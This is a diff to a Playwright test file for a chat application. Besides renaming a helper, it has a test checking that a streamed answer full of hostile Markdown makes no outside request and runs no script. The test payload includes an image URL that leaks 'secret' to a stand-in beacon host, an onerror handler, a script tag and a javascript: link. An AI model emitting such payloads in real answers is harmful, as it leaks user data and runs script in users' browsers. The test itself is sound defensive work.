@@ -4,7 +4,7 @@ import type { AddressInfo } from 'node:net'
 import { expect, test } from '@playwright/test'
 import { hostileMarkdown } from '../src/ui/parts/hostile.fixture.ts'
 import { startFakeServer, type FakeServer } from './fake-server.ts'
-import { answers, conversation, finished, importFile, openApp, say, startWithoutModel, startWithServer } from './person.ts'
+import { answers, conversation, finished, importFile, openApp, say, startWithoutModel, openWithServer } from './person.ts'
 
 let server: FakeServer
 test.beforeAll(async () => { server = await startFakeServer() })
@@ -54,8 +54,7 @@ test('hostile Markdown in every place makes no foreign request and runs no scrip
 })
 
 test('a streamed hostile answer acts no more than a stored one', async ({ page }) => {
-  await openApp(page)
-  await startWithServer(page, server.url, 'say')
+  await openWithServer(page, server.url, 'say')
   const asked: string[] = []
   page.on('request', request => { if (request.url().includes('beacon')) asked.push(request.url()) })
   await say(page, '[[say ![x](https://beacon.example/a.png?q=secret) <img src=https://beacon.example/b onerror=alert(1)> <script>window.pwned=1</script> [click](javascript:alert(1))]]')
